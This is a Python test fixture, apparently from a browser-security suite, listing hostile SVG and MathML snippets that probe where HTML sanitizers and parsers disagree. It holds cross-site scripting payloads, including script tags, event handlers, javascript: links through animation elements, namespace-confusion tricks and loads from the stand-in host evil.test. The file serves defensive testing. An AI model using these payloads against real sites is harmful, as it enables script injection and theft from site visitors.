"""Drawings and formulas: the elements in which parsers disagree most."""

from tests.browser.hostile.payloads.payload import Family, family

DRAWINGS: Family = family(
    {
        "script in svg": "<svg><script>RUN</script></svg>",
        "script by reference": "<svg><script xlink:href=//evil.test/x.js></script></svg>",
        "script in escaped text": "<svg><script>&#99;onsole.log(/pwned/)</script></svg>",
        "handler on svg": "<svg onload=RUN><g onclick=RUN><text y=20>x</text></g></svg>",
        "animated link": (
            "<svg><a><animate attributeName=href values=javascript:RUN /><text y=20>x</text></a>"
        ),
        "animation that begins": "<svg><animate onbegin=RUN attributeName=x dur=1s>",
        "set link": "<svg><a id=l><set href=#l attributeName=href to=javascript:RUN /></a></svg>",
        "moving script": "<svg><animateMotion onend=RUN dur=1ms /></svg>",
        "link": "<svg><a xlink:href=javascript:RUN><text y=20>click</text></a></svg>",
        "picture": "<svg><image href=//evil.test/1 xlink:href=//evil.test/2 width=9 height=9 />",
        "picture in a filter": "<svg><filter id=f><feImage href=//evil.test/x /></filter></svg>",
        "use from elsewhere": "<svg><use href=//evil.test/x.svg#a /></svg>",
        "use of data": "<svg><use href='data:image/svg+xml,<svg id=a onload=RUN>#a' /></svg>",
        "paint from elsewhere": "<svg><rect fill='url(//evil.test/x#a)' width=9 height=9 /></svg>",
        "mask from elsewhere": "<svg><rect mask='url(//evil.test/x#a)' width=9 height=9 /></svg>",
        "style in svg": "<svg><style>@import '//evil.test/x.css';</style></svg>",
        "style in svg with references": "<svg><style>@imp&#111;rt '//evil.test/x';</style></svg>",
        "style in svg with cdata": (
            "<svg><style><![CDATA[</style><img src=x onerror=RUN>]]></style>"
        ),
        "foreign object": (
            "<svg><foreignObject><iframe srcdoc='<script>RUN</script>'></iframe>"
            "<img src=x onerror=RUN></foreignObject></svg>"
        ),
        "description": "<svg><desc><img src=x onerror=RUN></desc><title><script>RUN</script></svg>",
        "handler element": "<svg><handler ev:event=load>RUN</handler></svg>",
        "as a picture": (
            '<img src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg">'
            '<script>RUN</script><image href="http://evil.test/x"/></svg>\'>'
        ),
        "formula link": "<math href=javascript:RUN><mi xlink:href=javascript:RUN>x</mi></math>",
        "formula that acts": (
            "<math><maction actiontype='statusline#//evil.test' xlink:href=javascript:RUN>x"
            "</maction></math>"
        ),
        "html in a formula": "<math><mtext><img src=x onerror=RUN><script>RUN</script></mtext>",
        "annotation": "<math><annotation-xml encoding=text/html><img src=x onerror=RUN></math>",
        "annotation as svg": "<math><annotation-xml><svg onload=RUN></svg></annotation-xml></math>",
        "formula picture": "<math><mglyph src=//evil.test/x.png></mglyph></math>",
    }
)
